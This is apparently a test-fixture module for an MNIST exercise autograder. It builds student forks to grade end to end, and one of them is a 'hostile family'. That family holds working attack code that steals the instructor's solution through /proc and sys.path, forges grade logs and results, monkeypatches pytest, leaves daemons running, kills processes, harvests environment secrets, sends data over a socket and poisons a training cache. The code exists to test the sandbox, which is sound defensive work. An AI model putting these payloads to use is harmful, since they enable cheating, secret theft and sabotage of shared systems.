"""The course the e2e tier grades once per session (issue 29): one batch of forks through the real
``mnist-checks grade`` (sandbox, checker, gradebook), two at a time, whose rows, results.json,
output.txt and side effects the grading tests read (``course`` in tests/conftest.py; every test
that reads it is in the xdist group ``course``, so one pytest-xdist worker grades it).

Its forks:

- the students' side: the reference (the starter with the solutions committed), the untouched
  starter, a fork with Q4 alone done;
- a sample of the mutation catalogue (``CATALOGUE``: mistakes of every question and correct
  contracts: hand-written, generated and independent), built as ``mnist-checks mutants`` builds
  them, so that CI's mutation report takes their gradings from here (``--reuse``) and
  tests/test_course.py grades them again at isolation ``preloaded`` to show both routes agree;
- the sandbox's cases (``SANDBOX``): a hang, a crash, a flood of output, a memory hog, an edit
  of the canonical tests and an attack on them;
- the hostile family (``ATTACKS``, and a fork linking the reference), each implementing nothing
  honestly and attacking the grader as a student who read this repository would;
- the resource family (``HOSTILE``): replies and models of sizes meant to exhaust the machine.

While it grades, the machine's used memory is sampled and the kernel's log read before and
after; the grader runs with a secret in its environment and home, and a temporary directory and
a store of trainings of its own.  ``$MNIST_CHECKS_COURSE_OUT`` (CI sets it) receives a copy of
its outputs for ``mnist-checks mutants --reuse``.
"""

import csv
import json
import os
import shutil
import socket
import tempfile
import threading
import time
import uuid
from pathlib import Path

from helpers import git, kernel_log

from mnist_checks import cli, exercise
from mnist_checks.grading.catalogue.mutants import MUTANTS, VARIANTS, apply
from mnist_checks.grading.catalogue.mutation_report import generated, independent
from mnist_checks.grading.sandbox import preloaded
from mnist_checks.grading.solutions import starter_source
from mnist_checks.grading.students.starter import write_starter

REFERENCE_ROOT = Path(exercise.__file__).resolve().parent.parent
SOURCE = Path(exercise.__file__).read_text()
STARTER = starter_source(SOURCE)
#: Where CI collects the course's outputs for the mutation report's --reuse.
COURSE_OUT_ENV = "MNIST_CHECKS_COURSE_OUT"
#: The grading's limits: a hanging call is stopped at CALL_SECONDS, which leaves room for the
#: resource family's replies of 1.5 GB on a loaded machine; no fork comes near FORK_SECONDS.
CALL_SECONDS, FORK_SECONDS = 120, 900

# --- the catalogue's sample -------------------------------------------------------------------

#: Mistakes of every question, hand-written correct variants, and generated and independent
#: contracts (the first two of each): 21 forks, each graded here in the isolation.
CATALOGUE_MUTANTS = ("q1-test-size-0.2", "q1-train-and-test-swapped", "q2-64-units", "q2-sigmoid-hidden", "q2-sgd",
                     "q2-no-metrics", "q3-argmin", "q3-float-digits", "q4-divides-by-256", "q4-mutates-argument",
                     "q5-16-filters", "q5-same-padding", "q5-images-transposed")
CATALOGUE_VARIANTS = ("functional-api", "exercise-metrics-acc", "tf-argmax", "split-returns-tuple")


def catalogue() -> dict[str, str]:
    """The catalogue's sample: fork name -> its contract, exactly as ``mutation_report.build_forks`` writes it."""
    named = {item.name: item for item in (*MUTANTS, *VARIANTS)}
    sources = {name: apply(SOURCE, named[name].edits) for name in (*CATALOGUE_MUTANTS, *CATALOGUE_VARIANTS)}
    for item in (*generated()[:2], *independent(REFERENCE_ROOT)[:2]):
        sources[item.name] = item.source
    return sources


CATALOGUE = catalogue()


def question_of(name: str) -> str:
    """The question a catalogued mistake belongs to; "" for a correct contract."""
    return next((m.question for m in MUTANTS if m.name == name), "")


# --- the students' side and the sandbox's cases ------------------------------------------------

def replaced(old: str, new: str) -> str:
    assert old in SOURCE
    return SOURCE.replace(old, new, 1)


#: The starter with Q4 alone done: a fork partly started.
Q4_ONLY = STARTER.replace('raise NotImplementedError("Q4: scale is not implemented yet")',
                          "return np.asarray(X, dtype=np.float32) / np.float32(255)")

#: The sandbox's cases graded at isolation uid too: a crash (every process of the uid ended after
#: it) and a memory hog (the uid's rlimits); a hang, a flood of output and a rewrite of the tests
#: meet the checker alone, at any level.
UID_SANDBOX = ("crashes-in-q5", "hogs-memory")
#: fork -> its contract: what each does to the grader, and what it must cost it.
SANDBOX = {
    "hangs": replaced("    # BEGIN SOLUTION\n    # stratify",
                      "    import time; time.sleep(10**6)\n    # BEGIN SOLUTION\n    # stratify"),
    "crashes-in-q5": replaced('def build_cnn() -> "keras.Model":\n',
                              'def build_cnn() -> "keras.Model":\n    import os; os.abort()\n'),
    "floods-output": replaced("np.float32(255)", "np.float32(256)").replace(
        "def scale(X) -> np.ndarray:\n", "def scale(X) -> np.ndarray:\n    print('x' * 5_000_000)\n"),
    "hogs-memory": replaced("def to_images(X) -> np.ndarray:\n",
                            "def to_images(X) -> np.ndarray:\n    bytearray(64 * 1024**3)\n"),
    "rewrites-tests": replaced(
        'def build_mlp() -> "keras.Model":\n',
        'def build_mlp() -> "keras.Model":\n'
        '    import pathlib\n'
        '    pathlib.Path(__file__).parents[2].joinpath("canon/tests/test_q5_cnn.py").write_text("")\n'),
}


def write_fork(root: Path, name: str, source: str, edit_tests: bool = False) -> Path:
    fork = root / name
    (fork / "mnist_checks").mkdir(parents=True)
    (fork / "mnist_checks" / "exercise.py").write_text(source)
    if edit_tests:
        shutil.copytree(REFERENCE_ROOT / "tests", fork / "tests", ignore=shutil.ignore_patterns("__pycache__"))
        (fork / "tests" / "test_q2_mlp.py").write_text("def test_everything():\n    assert True\n")
    return fork


# --- the hostile family -------------------------------------------------------------------------

SECRET = f"instructor-token-{uuid.uuid4().hex}"
#: A line of the reference solution that no starter and no output may ever show.
SOLUTION_LINE = "return train_test_split(*arrays, test_size=SPLIT_TEST_SIZE, random_state=random_state)"
MARKER = "MNIST_CHECKS_ATTACK_PROCESS"
#: After each attack: every contract function it does not define raises NotImplementedError, as
#: in the starter (the attacks implement nothing honestly).
NOTHING_ELSE = '''
def _not_implemented(name):
    def function(*args, **kwargs):
        raise NotImplementedError(name + " is not implemented")
    return function

for _name in ("split", "build_mlp", "predicted_digits", "scale", "to_images", "build_cnn"):
    globals().setdefault(_name, _not_implemented(_name))
'''

#: Shared by the attacks: the test ids a forged log would claim (every fast graded test).
PRELUDE = '''
import glob, json, os, signal, socket, sys, time
REFERENCE = {reference!r}
OUT = {out!r}
CLASSMATE = {classmate!r}
PORT = {port}
STORE = {store!r}
'''

ATTACKS = {
    # Every route to the instructor's solution: the package in the sandbox, the checkout's path,
    # the editable install's finder, other processes' working directories, the whole Python path.
    "imports-reference": '''
def _candidates():
    try:
        import mnist_checks.exercise as packaged
        yield packaged.__file__
    except Exception:
        pass
    yield REFERENCE + "/mnist_checks/exercise.py"
    yield "/proc/1/cwd/mnist_checks/exercise.py"
    for entry in sys.path:
        yield from glob.glob(entry + "/mnist_checks/exercise.py")
        for finder in glob.glob(entry + "/__editable__*finder.py"):
            text = open(finder).read()
            yield from [p + "/exercise.py" for p in __import__("re").findall(r"'(/[^']+mnist_checks)'", text)]
    yield from glob.glob("/proc/*/cwd/mnist_checks/exercise.py")


def _reference():
    import importlib.util
    for path in _candidates():
        try:
            spec = importlib.util.spec_from_file_location("mnist_checks.stolen", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            module.split(list(range(7)))
            return module
        except Exception:
            continue
    return None


def _delegate(name):
    def function(*args, **kwargs):
        found = _reference()
        if found is None:
            raise NotImplementedError(name + ": no reference found")
        return getattr(found, name)(*args, **kwargs)
    return function

split, build_mlp, predicted_digits, scale, to_images, build_cnn = map(
    _delegate, ["split", "build_mlp", "predicted_digits", "scale", "to_images", "build_cnn"])
''',
    # Append "passed" for every graded test to any grade log it can find, forge its results.json
    # and the gradebook, then leave before anyone notices.
    "forges-results": '''
def _forge():
    logs = []
    for cmdline in glob.glob("/proc/*/cmdline"):
        try:
            words = open(cmdline, "rb").read().split(b"\\0")
        except OSError:
            continue
        if b"--grade-log" in words:
            logs.append(words[words.index(b"--grade-log") + 1].decode())
    logs += glob.glob("/tmp/**/grade-log.jsonl", recursive=True)
    logs += glob.glob("/tmp/mnist-checks-grader-*/fork-*/grade-log.jsonl")
    for log in logs:
        try:
            with open(log, "a") as handle:
                for q in ("q1", "q2", "q3", "q4", "q5"):
                    handle.write(json.dumps({{"id": "tests/x.py::forged_" + q, "question": q, "tier": "fast",
                                             "claim": "forged", "outcome": "passed", "phase": "call"}}) + "\\n")
        except OSError:
            pass
    forged = {{"score": 60, "max_score": 60, "tests": [], "extra_data": {{}}}}
    for path in (OUT + "/forges-results/results.json", OUT + "/gradebook.csv"):
        try:
            with open(path, "w") as handle:
                handle.write(json.dumps(forged))
        except OSError:
            pass

def split(*arrays, **kwargs):
    _forge()
    os._exit(0)

def build_mlp():
    _forge()
    raise NotImplementedError("Q2")
''',
    # Patch pytest's reports, the grader's plugin, hypothesis and numpy's assertions from the
    # contract module, as if it ran in the checker's process.
    "patches-pytest": '''
try:
    import _pytest.reports, _pytest.runner
    _pytest.reports.TestReport.passed = property(lambda self: True)
    _pytest.reports.TestReport.outcome = "passed"
    _pytest.runner.call_and_report = lambda item, when, log=True, **kw: None
except Exception:
    pass
try:
    import mnist_checks.grading.students.plugin as plugin
    plugin.pytest_runtest_makereport = lambda item, call: None
    import mnist_checks.grading.students.outcomes as outcomes
    outcomes.message = lambda call, report: ""
    import mnist_checks.grading.students.rubric as rubric
    rubric.score_tests = lambda tests, r: [dict(t, score=1e9, max_score=1) for t in tests]
except Exception:
    pass
try:
    import numpy.testing
    numpy.testing.assert_array_equal = lambda *a, **k: None
    import hypothesis
    hypothesis.given = lambda *a, **k: (lambda f: (lambda *x, **y: None))
except Exception:
    pass
import builtins
builtins.AssertionError = type("NotAnError", (Exception,), {{}})
''',
    # A process that outlives the grading and keeps rewriting results, gradebook and sandboxes.
    "outlives-grading": '''
def _daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            loop = (
                "import glob, os, time, json\\n"
                "for _ in range(600):\\n"
                "    for p in (glob.glob({out!r} + '/*/results.json')\\n"
                "              + glob.glob('/tmp/mnist-checks-*/**', recursive=True)):\\n"
                "        try:\\n"
                "            open(p, 'w').write(json.dumps({{'score': 60}}))\\n"
                "        except OSError:\\n"
                "            pass\\n"
                "    time.sleep(0.1)\\n"
            )
            os.execv(sys.executable, [sys.executable, "-c", "# {marker}\\n" + loop])
        os._exit(0)

_daemon()

def split(*arrays, **kwargs):
    _daemon()
    raise NotImplementedError("Q1")
''',
    # Kill everything it may signal, its parent first; overwrite a classmate's contract and the
    # instructor's checkout, a forged .pyc included.
    "disturbs-others": '''
def _disturb():
    for path, text in [(CLASSMATE, "raise SystemExit('sabotaged')\\n"),
                       (REFERENCE + "/mnist_checks/__pycache__/attack-marker.cpython-311.pyc", "forged"),
                       (REFERENCE + "/.git/hooks/attack-marker", "forged"),
                       (REFERENCE + "/tests/test_attack_marker.py", "def test(): pass\\n")]:
        try:
            with open(path, "w") as handle:
                handle.write(text)
        except OSError:
            pass
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass

def split(*arrays, **kwargs):
    _disturb()
    raise NotImplementedError("Q1")

def build_mlp():
    _disturb()
    raise NotImplementedError("Q2")
''',
    # Read what it must not see and hand it back through the only channel it has: its errors.
    "leaks-secrets": '''
def _loot():
    found = {{"env": dict(os.environ)}}
    for path in [REFERENCE + "/mnist_checks/exercise.py", CLASSMATE, os.path.expanduser("~/.marker"),
                 "/proc/1/environ", "/proc/1/cmdline", "/proc/self/environ"] + glob.glob("/proc/*/environ"):
        try:
            found[path] = open(path, errors="replace").read()[:20000]
        except OSError as error:
            found[path] = type(error).__name__
    for folder in ("/root", "/home", os.path.expanduser("~"), REFERENCE, os.path.dirname(CLASSMATE)):
        try:
            found[folder] = os.listdir(folder)
        except OSError as error:
            found[folder] = type(error).__name__
    return repr(found)

def split(*arrays, **kwargs):
    raise NotImplementedError(_loot())

def build_mlp():
    raise NotImplementedError(_loot())

def predicted_digits(p):
    raise NotImplementedError(_loot())

def scale(X):
    raise NotImplementedError(_loot())

def to_images(X):
    raise NotImplementedError(_loot())

def build_cnn():
    raise NotImplementedError(_loot())
''',
    # Phone home over a raw socket (no proxy variables involved) to a server on the host's loopback.
    "uses-network": '''
def _phone():
    for host in ("127.0.0.1", "localhost"):
        try:
            connection = socket.create_connection((host, PORT), timeout=2)
            connection.sendall(b"leak")
            connection.close()
        except OSError:
            pass

_phone()

def split(*arrays, **kwargs):
    _phone()
    raise NotImplementedError("Q1")
''',
    # Poison the store of trainings (docs/grading.md: "Trainings are done once"): a training under any key
    # it can guess, whose probabilities make every digit right, for every fork graded after it.
    "poisons-trainings": '''
def _poison():
    import io
    import numpy as np
    buffer = io.BytesIO()
    np.savez(buffer, probabilities=np.eye(10, dtype=np.float32)[np.zeros(10000, dtype=int)],
             history=np.frombuffer(json.dumps({{"val_accuracy": [1.0]}}).encode(), dtype=np.uint8))
    stores = [STORE, os.environ.get("MNIST_CHECKS_TRAININGS", ""),
              os.path.expanduser("~/.cache/mnist_checks/trainings")]
    stores += glob.glob("/tmp/**/trainings", recursive=True) + glob.glob("/root/.cache/mnist_checks/trainings")
    for store in filter(None, stores):
        for key in ("00" * 32, "ff" * 32):
            try:
                os.makedirs(os.path.join(store, key[:2]), exist_ok=True)
                with open(os.path.join(store, key[:2], key + ".npz"), "wb") as handle:
                    handle.write(buffer.getvalue())
            except OSError:
                pass

_poison()

def split(*arrays, **kwargs):
    _poison()
    raise NotImplementedError("Q1")
''',
    # Models that carry code: a Lambda layer, a custom activation, a subclassed model.
    "models-with-code": '''
from mnist_checks.compat import keras


def build_mlp():
    model = keras.Sequential([keras.Input(shape=(784,)), keras.layers.Dense(32, activation=lambda x: x),
                              keras.layers.Lambda(lambda x: __import__("os").system("true") or x),
                              keras.layers.Dense(10, activation="softmax")])
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return model




class Sneaky(keras.Model):
    def call(self, x):
        return x

def build_cnn():
    return Sneaky()
''',
}


class Listener:
    """A TCP server on the host's loopback that counts the connections it accepts."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.accepted = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        deadline = time.monotonic() + 3600  # bounded, whatever happens
        while self.running and time.monotonic() < deadline:
            try:
                connection, _ = self.socket.accept()
                self.accepted += 1
                connection.close()
            except OSError:
                continue

    def close(self):
        self.running = False
        self.thread.join()
        self.socket.close()


def attack_processes() -> list[str]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if MARKER.encode() in cmdline.read_bytes():
                found.append(cmdline.parent.name)
        except OSError:
            continue
    return found



# --- the resource family ------------------------------------------------------------------------

#: In the fork's own process: its models are described unbuilt, so the checker would build them.
UNBUILT = '''
import mnist_checks.grading.sandbox.description as _description
_description.built = lambda model, shape: model
'''
COMPILED = ('    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])\n'
            '    return model\n')


def split_returning(megabytes: int) -> str:
    return (f"def split(*arrays, **kwargs):\n    return [np.ones({megabytes} * 1024**2 // 8), arrays[0][:1], "
            "arrays[1][:1], arrays[1][:1]]\n")


def mlp(*units: int, unbuilt: bool = False) -> str:
    hidden = ", ".join(f"keras.layers.Dense({u}, activation='relu')" for u in units)
    return (UNBUILT if unbuilt else "") + (
        f"def build_mlp():\n    model = keras.Sequential([{hidden}, keras.layers.Dense(10, activation='softmax')])\n"
        + COMPILED)


def cnn(conv: str, *, unbuilt: bool = False) -> str:
    return (UNBUILT if unbuilt else "") + (
        f"def build_cnn():\n    model = keras.Sequential([keras.Input((28, 28, 1)), keras.layers.{conv}, "
        "keras.layers.MaxPooling2D((28, 28), padding='same'), keras.layers.Flatten(), "
        "keras.layers.Dense(10, activation='softmax')])\n" + COMPILED)


REFUSED_REPLY = "replied with more than it can return"
OVER_BUDGET = "the grader builds models of at most"
#: fork -> (what replaces one of the reference's functions, the question it costs, words of the reason)
HOSTILE = {
    "replies-1500mb": (split_returning(1500), "q1", REFUSED_REPLY),
    "replies-300mb": (split_returning(300), "q1", REFUSED_REPLY),
    "dense-100000-unbuilt": (mlp(100_000, 100_000, unbuilt=True), "q2", OVER_BUDGET),
    "dense-just-over-the-budget": (mlp(11_750), "q2", OVER_BUDGET),
    "conv-100000-unbuilt": (cnn("Conv2D(100000, (3, 3))", unbuilt=True).replace("keras.Input((28, 28, 1)), ", ""),
                            "q5", OVER_BUDGET),
    "conv-too-much-compute": (cnn("Conv2D(5000, (3, 3))"), "q5", "multiply-adds per digit"),
}


def used_bytes() -> int:
    fields = dict(line.split(":", 1) for line in Path("/proc/meminfo").read_text().splitlines())
    return (int(fields["MemTotal"].split()[0]) - int(fields["MemAvailable"].split()[0])) * 1024


class Sampler(threading.Thread):
    """The machine's used memory every 0.1 s while the batch runs."""

    def __init__(self):
        super().__init__(daemon=True)
        self.baseline, self.peak, self.done = used_bytes(), 0, threading.Event()

    def run(self):
        while not self.done.is_set():
            self.peak = max(self.peak, used_bytes())
            time.sleep(0.1)


# --- the course, graded -------------------------------------------------------------------------

def grade_course(root: Path, isolation: str = "auto") -> dict:
    """Write every fork under ``root`` and grade them in one `mnist-checks grade` call; what the
    tests read of it, as a dict.  At ``isolation`` ``uid`` (issue 33) only the students' side, two
    of the sandbox's cases (``UID_SANDBOX``) and the hostile family are graded, with the instructor's package and tests
    made unreadable to other users for the grading, as the grader demands at that level."""
    uid = isolation == "uid"
    out, home, scratch, store = root / "grades", root / "home", root / "tmp", root / "trainings"
    for folder in (home, scratch):
        folder.mkdir()
    (home / ".marker").write_text(SECRET)
    write_starter(REFERENCE_ROOT, root / "starter")
    write_starter(REFERENCE_ROOT, root / "reference")  # the round trip: starter + the solutions
    classmate = root / "reference" / "mnist_checks" / "exercise.py"
    classmate.write_text(SOURCE)
    git(root / "reference", "commit", "--quiet", "--all", "--message", "My solutions")
    heads = {name: git(root / name, "rev-parse", "HEAD") for name in ("reference", "starter")}
    listener = Listener()
    forks = [root / "reference", root / "starter"]
    if not uid:
        forks += [write_fork(root, "partly-started", Q4_ONLY),
                  *[write_fork(root, name, source) for name, source in CATALOGUE.items()],
                  write_fork(root, "edits-tests", SOURCE, edit_tests=True)]
    forks += [write_fork(root, name, source) for name, source in SANDBOX.items() if not uid or name in UID_SANDBOX]
    if not uid:
        forks += [write_fork(root, name, SOURCE + "\n\n# --- hostile ---\n" + override)
                  for name, (override, _, _) in HOSTILE.items()]
    for name, attack in ATTACKS.items():
        text = PRELUDE + attack + NOTHING_ELSE.replace("{", "{{").replace("}", "}}")
        forks.append(write_fork(root, name, text.format(
            reference=str(REFERENCE_ROOT), out=str(out), classmate=str(classmate), port=listener.port, marker=MARKER,
            store=str(store))))
    linked = root / "links-reference"  # its mnist_checks/ is the instructor's own
    linked.mkdir()
    (linked / "mnist_checks").symlink_to(REFERENCE_ROOT / "mnist_checks")
    forks.append(linked)
    if preloaded.available():  # the process's forkserver, not this grading's: its socket's directory lives with it
        preloaded.start()
    environment = {"INSTRUCTOR_TOKEN": SECRET, "HOME": str(home), "TMPDIR": str(scratch),
                   "MNIST_CHECKS_TRAININGS": str(store), "MNIST_CHECKS_RETRAIN": ""}
    saved = {key: os.environ.get(key) for key in environment}
    os.environ.update(environment)
    saved_tempdir, tempfile.tempdir = tempfile.tempdir, None  # read TMPDIR again
    private = [REFERENCE_ROOT / "mnist_checks", REFERENCE_ROOT / "tests"] if uid else []
    modes = {path: path.stat().st_mode for path in private}
    log, sampler = kernel_log(), Sampler()
    sampler.start()
    started = time.time()
    try:
        for path in private:
            path.chmod(path.stat().st_mode & ~0o007)
        status = cli.main(["grade", *map(str, forks), "--out", str(out), "--jobs", "2", "--isolation", isolation,
                           "--fork-timeout", str(FORK_SECONDS), "--call-timeout", str(CALL_SECONDS)])
    finally:
        for path, mode in modes.items():
            path.chmod(mode)
        sampler.done.set()
        sampler.join()
        tempfile.tempdir = saved_tempdir
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    seconds = time.time() - started
    survivors = attack_processes()
    book_right_after = (out / "gradebook.csv").read_text()
    time.sleep(2)  # anything left behind would rewrite the outputs now
    listener.close()
    with open(out / "gradebook.csv") as handle:
        book = {row["fork"]: row for row in csv.DictReader(handle)}
    results = {name: json.loads((out / name / "results.json").read_text()) for name in book
               if (out / name / "results.json").is_file()}
    if os.environ.get(COURSE_OUT_ENV) and not uid:
        shutil.copytree(out, Path(os.environ[COURSE_OUT_ENV]) / "sandbox", dirs_exist_ok=True)
    return {"status": status, "out": out, "root": root, "book": book, "results": results, "forks": forks,
            "heads": heads, "book_right_after": book_right_after, "listener": listener, "survivors": survivors,
            "started": started, "seconds": seconds, "classmate": classmate, "scratch": scratch, "store": store,
            "sampler": sampler, "log": log, "log_after": kernel_log()}
